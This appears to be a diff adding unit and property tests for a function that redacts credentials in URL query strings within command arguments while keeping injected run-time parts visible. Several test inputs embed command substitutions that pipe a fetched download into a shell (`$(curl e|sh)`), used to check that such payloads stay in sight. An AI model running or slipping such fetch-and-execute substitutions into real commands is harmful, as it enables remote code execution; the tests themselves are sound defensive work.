@@ -19,6 +19,11 @@ import {
 //    runs `token=${X}-J` as a command of its own, read as an assignment whose `-J` is a short label
 //    beside a reference: kept in the display, and in a `--run` argument in both views. The pair is
 //    the URL's: its literal text is hidden as a query value's is, its run-time parts kept in sight.
+// 3. An argument whose later URL has more pairs after the one its first blank stands in
+//    (`["see https://h/p?b=1&api_key=a b&api_key=${X}$(curl e|sh)J"]`) was read as a line: the
+//    payload `$(curl e|sh)` hidden in the display. When each pair after it tells (its blanks only
+//    inside its run-time parts), the URL runs to the argument's end, each pair's literal text
+//    hidden, each run-time part in sight.
 
 /** `text` without its references' names (`${V:-` and `}` aside, a default's word is looked at). */
 const outsideReferences = (text: string) => text.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*(?::?[-=?+])?\}?/g, "");
@@ -174,6 +179,65 @@ describe("a URL's query continued past an unquoted `&`", () => {
         expect(outsideReferences(shownArgs).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
         expect(outsideReferences(JSON.stringify(exportedArgs(args))).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
         expectArgFilledBack(args);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe("a later URL with more telling pairs after the one its first blank stands in", () => {
+  it("runs to the argument's end: each payload in sight, the literal text hidden", () => {
+    expectArgs(
+      ["see https://h/p?b=1&api_key=a b&api_key=${X}$(curl e|sh)J"],
+      ["see https://h/p?b=1&api_key=•&api_key=${X}$(curl e|sh)•"],
+      ["see https://h/p?b=1"],
+    );
+    expectArgs(
+      ["see https://h/p?token=a b&token=J$(curl e|sh)"],
+      ["see https://h/p?token=•&token=•$(curl e|sh)"],
+      ["see https://h/p"],
+    );
+    expectArgs(
+      ["--run", "see https://h/p?api_key=a b&token=`curl e|sh`J"],
+      ["--run", "see https://h/p?api_key=•&token=`curl e|sh`•"],
+      ["--run", "see https://h/p"],
+    );
+  });
+
+  it("a pair after it that does not tell, or holds a blank of its own: read as a line, as before", () => {
+    expectArgs(
+      ["see https://h/p?token=a b&page=x password=Y"],
+      ["see https://h/p?token=• b&page=x password=•"],
+      ["see https://h/p b&page=x password=${PASSWORD}"],
+    );
+  });
+
+  it("property: no literal in clear, each payload in sight as often as written, filled back byte for byte", () => {
+    const value = fc
+      .array(
+        fc.oneof(fc.stringMatching(/^[JQ]{1,3}$/), fc.constantFrom("${X}", "$(curl e|sh)", "`curl e|sh`")),
+        {
+          minLength: 1,
+          maxLength: 4,
+        },
+      )
+      .map((parts) => parts.join(""))
+      .filter((text) => /[JQ]/.test(text));
+    const make = fc.constantFrom(
+      (a: string, _b: string) => `see https://h/p?b=1&api_key=J Q&api_key=${a}`,
+      (a: string, b: string) => `see https://h/p?token=${a} Q&token=${b}`,
+      (a: string, b: string) => `x https://h/p?token=J ${a}&api_key=${b}&token=${a}`,
+    );
+    fc.assert(
+      fc.property(make, value, value, (build, a, b) => {
+        const args = ["--run", build(a, b)];
+        const arg = args[1] as string;
+        const shown = JSON.stringify(withoutArgSecrets(args, () => "•"));
+        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
+        expect(payloadsIn(shown)).toBe(payloadsIn(arg));
+        expect(outsideReferences(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JQ]/);
+        expectArgFilledBack(args);
+        expectArgFilledBack([arg]);
       }),
       { numRuns: 300 },
     );
